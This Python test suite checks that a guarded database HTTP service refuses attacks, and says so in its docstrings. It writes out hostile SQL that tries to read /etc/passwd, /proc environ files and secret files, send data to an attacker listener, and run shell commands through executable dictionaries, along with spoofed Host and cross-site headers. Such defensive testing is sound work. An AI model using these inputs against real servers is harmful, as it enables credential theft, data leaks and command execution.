"""What statements of `sluice store` may not reach: files, other servers, programs, the engine itself; and from where
nobody may ask: by a name that is not the store's, from a page of another site. Each is tried as an attacker would."""
import glob
import http.client
import http.server
import os
import socket
import subprocess
import threading
import time

from harness import case, waiting
from harness.store import QueryError, Store, engine

ACCESS_DENIED = 497


class Listener(http.server.ThreadingHTTPServer):
    """What an attacker has elsewhere: remembers that it was asked."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), self.Handler)
        self.asked = []
        self.thread = threading.Thread(target=self.serve_forever, daemon=True)
        self.thread.start()

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self):
            self.server.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"1\n")

        do_GET = do_POST = do_HEAD = do_PUT = answer

        def log_message(self, *_):
            pass

    @property
    def url(self):
        return f"http://127.0.0.1:{self.server_address[1]}"

    def close(self):
        self.shutdown()
        self.server_close()


class OutsideCase(case.Case):
    arguments = ()

    def setUp(self):
        super().setUp()
        engine()  # skips where there is none
        self.running = Store(self.path("store"), arguments=self.arguments)
        self.addCleanup(self.running.kill)
        self.secret = self.path("secret.txt")
        with open(self.secret, "w") as file:
            file.write("s3cret\n")
        self.attacker = Listener()
        self.addCleanup(self.attacker.close)

    def ask(self, sql, method="POST"):
        """The answer, whatever it is, and whether the statement was taken."""
        if method == "GET":
            status, _, answer = self.running.request(method="GET", query=sql)
        else:
            status, _, answer = self.running.request(sql)
        return status == 200, answer.decode(errors="replace")

    def assert_refused(self, sql, code=None, method="POST"):
        taken, answer = self.ask(sql, method)
        self.assertFalse(taken, f"{sql}: {answer[:200]}")
        self.assertNotIn("s3cret", answer)
        if code is not None:
            self.assertTrue(answer.startswith(f"Code: {code}. "), f"{sql}: {answer}")


    def run_programs(self):
        """Tries each way to a program that the engine knows, with one there that it may execute."""
        scripts = os.path.join(self.running.directory, "data", "user_scripts")
        os.makedirs(scripts, exist_ok=True)
        for name in ["function", "table", "pool"]:
            script = os.path.join(scripts, f"{name}.sh")
            with open(script, "w") as file:
                file.write(f"#!/bin/sh\n: >'{self.path('ran.' + name)}'\necho {name}\n")
            os.chmod(script, 0o755)
        command = f": >{self.path('ran.dictionary')}; echo 1,2"
        for sql in ["SELECT * FROM executable('function.sh', 'LineAsString', 's String')",
                    "CREATE TABLE e (s String) ENGINE = Executable('table.sh', 'LineAsString')", "SELECT * FROM e",
                    "CREATE TABLE p (s String) ENGINE = ExecutablePool('pool.sh', 'LineAsString')", "SELECT * FROM p",
                    f"CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE(executable(command '{command}' format 'CSV')) "
                    "LAYOUT(FLAT()) LIFETIME(0)", "SELECT * FROM dictionary('d')"]:
            self.ask(sql)

    def programs_run(self):
        return sorted(os.path.basename(path).partition(".")[2] for path in glob.glob(self.path("ran.*")))


class Statements(OutsideCase):
    def test_files_are_not_read(self):
        for sql in [f"SELECT * FROM file('{self.secret}', 'LineAsString')", f"DESCRIBE file('{self.secret}', 'CSV')",
                    f'SELECT * FROM "{self.secret}"', f"SELECT * FROM `{self.secret}`", f"SELECT * FROM '{self.secret}'",
                    f'DESCRIBE TABLE "{self.secret}"',
                    f"CREATE VIEW v AS SELECT * FROM file('{self.secret}', 'LineAsString')",
                    f"CREATE TABLE c ENGINE = Memory AS SELECT * FROM file('{self.secret}', 'LineAsString')",
                    "CREATE TABLE c (s String) ENGINE = File(CSV)", "CREATE TEMPORARY TABLE c (s String) ENGINE = File(CSV)",
                    f"CREATE DATABASE d ENGINE = Filesystem('{self.directory}')",
                    f"SELECT * FROM filesystem('{self.directory}')",
                    f"SELECT * FROM sqlite('{self.secret}', 't')"]:
            for method in ["GET", "POST"]:
                with self.subTest(sql, method=method):
                    # By GET nothing is made; SQLite opens its file before it asks, and the kernel refuses that.
                    other = (method == "GET" and sql.startswith("CREATE")) or "sqlite" in sql
                    self.assert_refused(sql, None if other else ACCESS_DENIED, method)

    def test_what_needs_no_leave_of_the_engine_has_the_kernels(self):
        if "Landlock" in self.running.log():
            self.skipTest(f"the kernel cannot confine a process: {self.running.log()}")
        self.assert_refused(f"SELECT file('{self.secret}')")
        self.assert_refused("SELECT file('/etc/passwd')", method="GET")
        self.assert_refused("SELECT file('../../secret.txt')")
        process = self.running.process.pid
        for path in ["/proc/1/environ", "/proc/self/environ", "/proc/thread-self/environ", f"/proc/{process}/environ",
                     f"/proc/self/task/{process}/environ", "/proc/self/cmdline", "/proc/self/mem", "/proc/self/fd", "/proc/self/root",
                     "/proc/self/cwd/../../secret.txt", "/proc/cmdline", "/proc/net/tcp", "/proc/sys/kernel/hostname", "/sys/class/net",
                     "/etc/ssl", "/etc/ssl/private", "/etc/pki/tls/private", "/etc/ca-certificates", "/dev", "/var/lib", "/root", "/"]:
            with self.subTest(path):
                self.assert_refused(f"SELECT file('{path}')")
        for path in ["/etc/ssl/certs/ca-certificates.crt", "/etc/hosts"]:  # what it needs it has
            if os.path.exists(path):
                self.assertEqual(self.running.value(f"SELECT length(file('{path}'))"), os.path.getsize(path))
        self.assert_refused(f"SELECT * FROM format(Protobuf, 'x') SETTINGS format_schema = '{self.secret}:M'")

    def test_formats_bring_no_files(self):
        for method in ["GET", "POST"]:
            self.assert_refused(f"SELECT 1 AS x FORMAT Template SETTINGS format_template_row = '{self.secret}'", method=method)
        _, _, answer = self.running.request("SELECT 1 AS x FORMAT Template", format_template_row=self.secret)
        self.assertNotIn(b"s3cret", answer)

    def test_formats_write_no_files_and_ask_nobody(self):
        """Settings of formats come with the statement, with the request, or stay in a session."""
        configuration = os.path.join(self.running.directory, "engine.xml")
        made = os.path.join(self.running.directory, "data", "x")
        with open(configuration) as file:
            before = file.read()

        def nothing_happened():
            with open(configuration) as file:
                self.assertEqual(file.read(), before)
            self.assertFalse(glob.glob(made + "*"))
            self.assertEqual(self.attacker.asked, [])

        for name, value, sql in [("output_format_schema", configuration, "SELECT 1 AS x FORMAT Protobuf"),
                                 ("output_format_schema", made + ".proto", "SELECT 1 AS x FORMAT Protobuf"),
                                 ("output_format_schema", "../data/x.proto", "SELECT 1 AS x FORMAT Protobuf"),
                                 ("output_format_schema", "../data/x", "SELECT 1 AS x FORMAT CapnProto"),
                                 ("format_avro_schema_registry_url", self.attacker.url,
                                  "SELECT * FROM format(AvroConfluent, 'x Int8', '\\0\\0\\0\\0\\x01\\0')")]:
            for method in ["GET", "POST"]:
                with self.subTest(sql, value=value, method=method):
                    self.assert_refused(f"{sql} SETTINGS {name} = '{value}'", method=method)
                    for session in [{}, {"session_id": "s"}]:
                        told = {"method": "GET", "query": sql} if method == "GET" else {"body": sql}
                        self.running.request(**told, **session, **{name: value})
                        nothing_happened()
            self.running.request(f"SET {name} = '{value}'", session_id="s")
            self.running.request(sql, session_id="s")
            nothing_happened()

    def test_settings_that_may_name_what_is_outside_are_known(self):
        """Each setting of the engine whose value is a text and that has to do with files, servers or programs is
        either fixed or told here, with why it may be set. A new one of a later engine is to be looked at."""
        words = "path|paths|file|files|url|uri|host|hosts|address|command|script|program|credentials|collection"
        harmless = {
            # They name what the engine's configuration must have, and a client cannot make.
            "ai_function_embedding_default_credentials", "ai_function_text_default_credentials",
            "distributed_cache_file_cache_name",
            # A file in DIR/files, by the kernel's leave.
            "format_schema", "format_schema_message_name",
            # How what may be reached is handled.
            "column_names_for_schema_inference", "distributed_plan_force_exchange_kind",
            "local_filesystem_read_method", "schema_inference_hints", "temporary_files_codec", "trace_profile_events_list",
            "iceberg_metadata_compression_method", "input_format_hive_text_collection_items_delimiter",
            "input_format_hive_text_fields_delimiter", "input_format_hive_text_map_keys_delimiter"}
        text = self.running.text(
            "SELECT name FROM system.settings WHERE type IN ('String', 'URI', 'Map', 'Char') AND NOT readonly AND (match(name, "
            f"'(^|_)({words}|schema|proxy|endpoint|server|certificate|dir|directory)(_|$)') OR match(description, "
            f"'(?i)\\\\b({words})\\\\b'))")
        self.assertEqual(set(text.split()), harmless)
        fixed = self.running.text("SELECT name FROM system.settings WHERE readonly").split()
        for name in ["output_format_schema", "format_avro_schema_registry_url", "dialect", "dynamic_disk_allow_from_env"]:
            self.assertIn(name, fixed)

    def test_files_are_not_written(self):
        out = self.path("out.csv")
        for sql in [f"SELECT 1 INTO OUTFILE '{out}'", f"SELECT 1 INTO/**/OUTFILE '{out}'",
                    # The engine takes these for quotes, and what is in them for no bracket.
                    f"SELECT 1 AS “(” INTO OUTFILE '{out}'", f"SELECT ‘{{’ INTO OUTFILE '{out}'",
                    f"SELECT 1 AS \"a\"\"(\" INTO OUTFILE '{out}'",
                    f"INSERT INTO FUNCTION file('{out}', 'CSV', 'x String') SELECT 'a'",
                    f"INSERT INTO FUNCTION file('{out}', 'CSV', 'x String') FORMAT CSV\na",
                    f"BACKUP DATABASE default TO File('{out}')"]:
            for method in ["GET", "POST"]:
                with self.subTest(sql, method=method):
                    self.assert_refused(sql, method=method)
                    self.assertFalse(os.path.exists(out))
        self.running.text("CREATE TABLE t (s String) ENGINE = Memory")
        for sql in [f"INSERT INTO t FROM INFILE '{self.secret}' FORMAT LineAsString",
                    f"INSERT INTO t (s) FROM/* */INFILE '{self.secret}' FORMAT LineAsString"]:
            self.assert_refused(sql)
        self.assertEqual(self.running.value("SELECT count() FROM t"), 0)

    def test_other_servers_are_not_asked(self):
        host, port = self.attacker.server_address
        s3 = f"{self.attacker.url}/bucket/x"
        for sql in [f"SELECT * FROM url('{self.attacker.url}/x', 'LineAsString')", f"DESCRIBE url('{self.attacker.url}/x')",
                    f"SELECT * FROM url(concat('{self.attacker.url}/x?', (SELECT base64Encode('flow'))), 'LineAsString')",
                    f"INSERT INTO FUNCTION url('{self.attacker.url}/x', 'CSV', 'x String') SELECT 'a'",
                    f"CREATE TABLE u (s String) ENGINE = URL('{self.attacker.url}/x', 'CSV')",
                    f"SELECT * FROM s3('{s3}', 'LineAsString')", f"SELECT * FROM gcs('{s3}', 'LineAsString')",
                    f"CREATE TABLE u (s String) ENGINE = S3('{s3}', 'CSV')",
                    f"SELECT * FROM remote('{host}:{port}', system.one)", f"SELECT * FROM remoteSecure('{host}:{port}', system.one)",
                    f"SELECT * FROM mysql('{host}:{port}', 'a', 'b', 'c', 'd')",
                    f"SELECT * FROM postgresql('{host}:{port}', 'a', 'b', 'c', 'd')",
                    f"SELECT * FROM mongodb('{host}:{port}', 'a', 'b', 'c', 'd', 'e String')",
                    f"SELECT * FROM redis('{host}:{port}', 'x', 'x String')",
                    f"SELECT * FROM hdfs('hdfs://{host}:{port}/x', 'LineAsString', 's String')",
                    f"CREATE DATABASE d ENGINE = MySQL('{host}:{port}', 'a', 'b', 'c')",
                    f"CREATE TABLE u (s String) ENGINE = MergeTree ORDER BY s SETTINGS disk = disk(type = s3, endpoint = '{s3}/', "
                    "access_key_id = 'a', secret_access_key = 'b')",
                    f"CREATE TABLE u (s String) ENGINE = MergeTree ORDER BY s SETTINGS disk /* ( */ = disk(type = web, endpoint = '{s3}/')",
                    # Names may be written with escapes.
                    *(f"{make} TABLE u (s String) ENGINE = MergeTree ORDER BY s "
                      f"SETTINGS `d\\x69sk` = `d\\x69sk`(type = web, endpoint = '{s3}/')" for make in ["CREATE", "REPLACE"]),
                    "CREATE TABLE u (s String) ENGINE = MergeTree ORDER BY s",  # which is fine
                    f"ALTER TABLE u MODIFY SETTING \"d\\x69sk\" = \"d\\x69sk\"(type = web, endpoint = '{s3}/')",
                    f"ALTER TABLE u MODIFY SETTING disk = disk(type = web, endpoint = '{s3}/')"]:
            with self.subTest(sql):
                if sql.endswith("ORDER BY s"):
                    self.assertEqual(self.ask(sql), (True, ""))
                else:
                    self.assert_refused(sql)
        self.assertEqual(self.attacker.asked, [])

    def test_dictionaries_ask_the_engine_and_files_of_the_store_alone(self):
        proof = self.path("proof")
        command = f"executable(command 'id > {proof}; cat' format 'TSV')"
        form = "CREATE DICTIONARY d (k UInt64, v String) PRIMARY KEY k SOURCE({}) LAYOUT(FLAT()) LIFETIME(0)"
        for source in [command, f"/* ) */ {command}", f"http(url '{self.attacker.url}/x' format 'CSV')",
                       "clickhouse(host '127.0.0.2' port 9000 query 'SELECT 1, 2')",
                       "mysql(host '127.0.0.1' user 'a' password 'b' db 'c' table 'd')",
                       f"null()) SOURCE({command}"]:
            for sql in [form.format(source), form.format(source).replace("CREATE", "CREATE OR REPLACE"),
                        f"CREATE TABLE p (n Int8) ENGINE = Memory PARALLEL WITH {form.format(source)}"]:
                with self.subTest(sql):
                    self.assert_refused(sql)
                    taken, _ = self.ask("SELECT * FROM dictionary('d')")
                    self.assertFalse(taken)
        self.assertFalse(os.path.exists(proof), "a program ran")
        self.assertEqual(self.attacker.asked, [])
        files = form.replace("UInt64, v String", "UInt64, line String")
        self.running.text(files.format(f"file(path '{self.secret}' format 'LineAsString')"))
        self.assert_refused("SELECT * FROM dictionary('d')")
        self.running.text("DROP DICTIONARY d")
        with open(os.path.join(self.running.files, "names.csv"), "w") as file:
            file.write("1,one\n2,two\n")
        self.running.text(form.format("file(path 'names.csv' format 'CSV')"))
        self.assertEqual(self.running.value("SELECT dictGet('d', 'v', 2)"), "two")
        self.running.text("DROP DICTIONARY d")
        query = "SELECT * FROM file(''names.csv'', ''CSV'', ''k UInt64, v String'')"
        self.running.text(form.format(f"clickhouse(user 'sluice_files' query '{query}')"))
        self.assertEqual(self.running.value("SELECT dictGet('d', 'v', 1)"), "one")

    def test_programs_are_not_run(self):
        if "Landlock" in self.running.log():
            self.skipTest(f"the kernel cannot confine a process: {self.running.log()}")
        self.run_programs()
        self.assertEqual([], self.programs_run())

    def test_the_engine_itself_stays_as_it_is(self):
        for sql in ["SYSTEM SHUTDOWN", "SYSTEM KILL", "SYSTEM SUSPEND FOR 1 SECOND", "CREATE USER x", "GRANT FILE ON *.* TO default",
                    "CREATE ROLE r", "CREATE NAMED COLLECTION n AS a = 1", "CREATE SETTINGS PROFILE p", "DROP USER sluice_files",
                    "ALTER USER default IDENTIFIED BY 'x'", "EXECUTE AS sluice_files SELECT 1", "RESTORE DATABASE d FROM File('/x')",
                    "CREATE WORKLOAD w", "ATTACH TABLE t FROM '/etc' (x String) ENGINE = MergeTree ORDER BY x"]:
            with self.subTest(sql):
                self.assert_refused(sql)
        self.assertEqual(self.running.text("SELECT 1"), "1\n")

    def test_get_changes_nothing_and_sets_nothing(self):
        self.running.text("CREATE TABLE t (n Int8) ENGINE = Memory")
        for sql in ["INSERT INTO t VALUES (1)", "TRUNCATE TABLE t", "DROP TABLE t", "SYSTEM FLUSH LOGS", "KILL QUERY WHERE 1",
                    "SELECT 1 SETTINGS max_threads = 7"]:
            self.assert_refused(sql, 164, "GET")
        self.assertEqual(self.running.request(method="GET", query="SELECT getSetting('max_threads')", max_threads=3)[2], b"3\n")
        for _ in range(2):
            self.assertEqual(self.running.request(method="GET", query="SELECT getSetting('max_threads')", max_threads=3,
                                                  session_id="s")[2], b"3\n")

    def test_what_the_tables_need_goes_on(self):
        for sql in ["CREATE DATABASE d", "CREATE TABLE d.t (n UInt64) ENGINE = MergeTree ORDER BY n",
                    "CREATE MATERIALIZED VIEW d.m ENGINE = SummingMergeTree ORDER BY n AS SELECT n, 1 AS c FROM d.t",
                    "CREATE VIEW d.v AS SELECT * FROM d.t", "CREATE FUNCTION twice AS (x) -> 2 * x",
                    "INSERT INTO d.t SELECT number FROM numbers(3)", "ALTER TABLE d.t ADD COLUMN s String",
                    "ALTER TABLE d.t MODIFY TTL toDateTime(n) + INTERVAL 100 YEAR", "ALTER TABLE d.t DELETE WHERE n = 0 SETTINGS mutations_sync = 1",
                    "OPTIMIZE TABLE d.t FINAL", "CREATE TABLE d.k (n UInt64) ENGINE = Kafka('127.0.0.1:1', 't', 'g', 'JSONEachRow')",
                    "DROP TABLE d.k", "SYSTEM DROP FORMAT SCHEMA CACHE", "SYSTEM RELOAD DICTIONARIES", "KILL QUERY WHERE 0"]:
            with self.subTest(sql):
                self.running.text(sql)
        self.assertEqual(self.running.value("SELECT twice(sum(n)) FROM d.v"), 6)
        self.assertEqual(self.running.value("SELECT sum(c) FROM d.m"), 3)


class Lifted(OutsideCase):
    arguments = ("--allow-external",)

    def test_what_is_outside_is_there(self):
        self.assertEqual(self.running.text(f"SELECT * FROM file('{self.secret}', 'LineAsString')"), "s3cret\n")
        self.assertEqual(self.running.text(f"SELECT * FROM url('{self.attacker.url}/x', 'LineAsString')"), "1\n")

    def test_programs_are_run(self):
        """So that where they are not it is not for want of one."""
        self.run_programs()
        self.assertEqual(["dictionary", "function", "pool", "table"], self.programs_run())


class Askers(OutsideCase):
    """What a browser on this machine can be made to send."""

    def get(self, headers, path="/?query=SELECT%201"):
        connection = http.client.HTTPConnection("127.0.0.1", self.running.port, timeout=waiting.DEADLINE)
        self.addCleanup(connection.close)
        connection.putrequest("GET", path, skip_host=True)
        for name, value in headers:
            connection.putheader(name, value)
        connection.endheaders()
        answer = connection.getresponse()
        return answer.status, answer.read().decode()

    def test_a_name_that_was_pointed_here(self):
        for host in ["evil.example", f"evil.example:{self.running.port}", "127.0.0.1.evil.example"]:
            status, text = self.get([("Host", host)])
            self.assertEqual(status, 421, text)
            self.assertIn("--host", text)
        for host in ["localhost", "127.0.0.1:1", "[::1]", socket.gethostname()]:
            self.assertEqual(self.get([("Host", host)]), (200, "1\n"))

    def test_an_image_of_a_page(self):
        for site in ["cross-site", "same-site"]:
            self.assertEqual(self.get([("Host", "localhost"), ("Sec-Fetch-Site", site)])[0], 403)
        self.assertEqual(self.get([("Host", "localhost"), ("Origin", "http://evil.example")])[0], 403)
        self.assertEqual(self.get([("Host", "localhost"), ("Sec-Fetch-Site", "none")]), (200, "1\n"))


class NamedAskers(Askers):
    arguments = ("--host", "store.example")

    def test_a_name_that_was_pointed_here(self):
        self.assertEqual(self.get([("Host", "store.example:8123")]), (200, "1\n"))
        self.assertEqual(self.get([("Host", "evil.example")])[0], 421)


class Crowds(OutsideCase):
    """Many connections, slow clients, slow statements."""

    arguments = ("--connections", "2", "--statement-seconds", "3")

    def test_half_requests_keep_nobody_out(self):
        halves = []
        for number in range(300):
            half = socket.create_connection(("127.0.0.1", self.running.port), timeout=waiting.DEADLINE)
            self.addCleanup(half.close)
            half.sendall(b"POST / HTTP/1.1\r\nHost: localhost\r\n" + (b"Content-Length: 9\r\n\r\nSEL" if number % 2 else b""))
            halves.append(half)
        begun = time.monotonic()
        self.assertEqual(self.running.request(method="GET", path="/ping")[2], b"Ok.\n")
        self.assertEqual(self.running.text("SELECT 1"), "1\n")
        print(f"ping and a statement beside 300 half requests: {(time.monotonic() - begun) * 1000:.0f} ms")

    def test_slow_statements_end(self):
        slow = "SELECT sleepEachRow(1) FROM numbers(1000) SETTINGS max_block_size = 1, function_sleep_max_microseconds_per_block = 0"
        with self.assertRaises(QueryError) as caught:
            self.running.text(slow)
        self.assertEqual(caught.exception.code, 159, caught.exception.text)
        with self.assertRaises(QueryError) as caught:
            self.running.text(slow, max_execution_time=1)
        self.assertEqual(caught.exception.code, 159, caught.exception.text)

    def test_what_is_inserted_may_take_longer(self):
        self.running.text("CREATE TABLE t (n UInt64) ENGINE = MergeTree ORDER BY n")
        with socket.create_connection(("127.0.0.1", self.running.port), timeout=waiting.DEADLINE) as slow:
            slow.sendall(b"POST /?query=INSERT+INTO+t+FORMAT+CSV HTTP/1.1\r\nHost: localhost\r\nContent-Length: 10\r\n\r\n")
            for number in range(5):
                slow.sendall(b"%d\n" % number)
                time.sleep(1)  # longer in sum than a statement may take
            self.assertIn(b"200 OK", slow.recv(4096))
        self.assertEqual(self.running.value("SELECT count() FROM t"), 5)


if __name__ == "__main__":
    case.main()
